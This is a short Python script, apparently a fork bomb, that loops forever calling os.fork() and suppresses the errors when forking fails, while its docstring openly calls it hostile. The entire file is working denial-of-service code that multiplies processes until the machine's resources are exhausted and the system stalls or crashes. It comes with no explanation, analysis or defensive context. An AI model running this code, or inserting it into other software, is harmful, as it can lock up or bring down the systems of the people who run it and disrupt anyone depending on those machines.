"""Hostile: every process makes more, for as long as there is anything to make them of."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
